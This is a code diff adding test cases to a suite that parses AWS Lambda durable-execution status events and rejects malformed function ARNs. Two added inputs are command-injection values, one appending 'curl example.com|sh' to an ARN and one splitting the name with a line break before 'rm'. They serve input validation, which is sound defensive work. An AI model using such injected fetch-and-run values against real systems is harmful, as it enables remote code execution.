@@ -31,6 +31,14 @@ describe('the end of an execution', () => {
     ['has no ARN', statusChange({ durableExecutionArn: undefined })],
     ['has an ARN longer than any', statusChange({ durableExecutionArn: 'x'.repeat(1_025) })],
     ['has no function', statusChange({ functionArn: 17 })],
+    [
+      'has a function whose name would be a command in a shell',
+      statusChange({ functionArn: 'arn:aws:lambda:eu-west-1:123456789012:function:x;curl example.com|sh' }),
+    ],
+    [
+      'has a function with a line break in its name',
+      statusChange({ functionArn: 'arn:aws:lambda:eu-west-1:123456789012:function:x\nrm' }),
+    ],
     ['has no detail', { ...statusChange(), detail: null }],
     ['is a Spot warning', anEvent('spot-interruption')],
     ['is an SNS delivery', { Records: [{ Sns: { Message: JSON.stringify(hookMessage()) } }] }],
@@ -38,6 +46,14 @@ describe('the end of an execution', () => {
     ['is nothing', undefined],
   ])('that %s is no failure', (_, delivery) => {
     expect(read(delivery)).toBeUndefined();
+  });
+
+  it.each([
+    'arn:aws:lambda:eu-west-1:123456789012:function:ecs-drain-drain',
+    'arn:aws-us-gov:lambda:us-gov-west-1:123456789012:function:ecs-drain-drain:durable',
+    'arn:aws:lambda:eu-west-1:123456789012:function:ecs-drain-drain:$LATEST',
+  ])('of %s is read', (functionArn) => {
+    expect(read(statusChange({ functionArn }))?.functionArn).toBe(functionArn);
   });
 
   it('whatever is delivered, reading never throws', () => {
